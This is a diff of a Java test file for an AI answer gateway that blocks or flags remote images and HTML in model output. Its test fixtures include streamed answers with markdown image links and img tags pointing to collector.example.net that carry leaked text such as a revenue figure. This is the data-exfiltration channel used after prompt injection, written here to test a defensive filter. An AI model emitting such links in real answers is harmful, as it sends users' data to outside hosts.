@@ -57,7 +57,7 @@ class AnswerGatewayTest {
                     pseudo:
                       pii: { default: pseudonymize }
                     images:
-                      output: { remote_images: block, image_hosts: [cdn.example.com, "*.assets.example.org"] }
+                      output: { remote_images: block, remote_html: block, image_hosts: [cdn.example.com, "*.assets.example.org"] }
                 """));
         key = gw.createKey("acme", "invoke");
     }
@@ -246,7 +246,7 @@ class AnswerGatewayTest {
 
         AtomicBoolean ended = new AtomicBoolean();
         List<String> pieces = new java.util.ArrayList<>(List.of("Here is the summary. ![load", "ing](https://coll", "ector.example.net/log?d=Q3%20rev",
-                "enue%20was%2012.4M) Anything else? ", "<img src=\"https://collector.example.net/p?d=", "more\"> done. "));
+                "enue%20was%2012.4M) Anything else? ", "![x]", "(//collector.example.net/p?d=", "more) done. "));
         pieces.addAll(filler(6));
         answerStreamed(pieces, 30, ended);
         Streamed st = stream("/v1/chat/completions", chat("summarise the page", true), ended);
@@ -254,6 +254,19 @@ class AnswerGatewayTest {
                 + String.join("", filler(6)));
         assertThat(st.body()).doesNotContain("collector", "revenue");
         assertThat(st.contentBeforeUpstreamEnded()).as("the rest of the answer still streams").isTrue();
+    }
+
+    /** HTML in answers is mostly code a chat app escapes: by default a fetching tag is recorded, the answer left whole. */
+    @Test
+    void htmlThatFetchesIsFlaggedNotRewrittenByDefault() throws Exception {
+        String code = "Add this to your page:\n```html\n<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script>\n"
+                + "<img src=\"https://cdn.example.net/logo.png\" alt=\"logo\">\n```";
+        answerWhole(code);
+        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("how do I add chart.js?", false));
+        assertThat(r.statusCode()).isEqualTo(200);
+        assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content")).isEqualTo(code);
+        assertThat(gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow()))
+                .contains("\"guard_answer\":{\"action\":\"flag\",\"entities\":{\"REMOTE_HTML\":2}");
     }
 
     @Test
@@ -270,7 +283,7 @@ class AnswerGatewayTest {
             assertThat(r.statusCode()).as(image).isEqualTo(502);
             JsonObject err = new JsonObject(r.body()).getJsonObject("error");
             assertThat(err.getString("code")).isEqualTo("remote_image_in_answer");
-            assertThat(err.getString("message")).contains("REMOTE_IMAGE");
+            assertThat(err.getString("message")).containsAnyOf("REMOTE_IMAGE", "REMOTE_HTML");
             assertThat(err.getString("request_id")).isEqualTo(r.headers().firstValue("X-Request-Id").orElseThrow());
             assertThat(r.body()).doesNotContain("collector", "secret");
         }
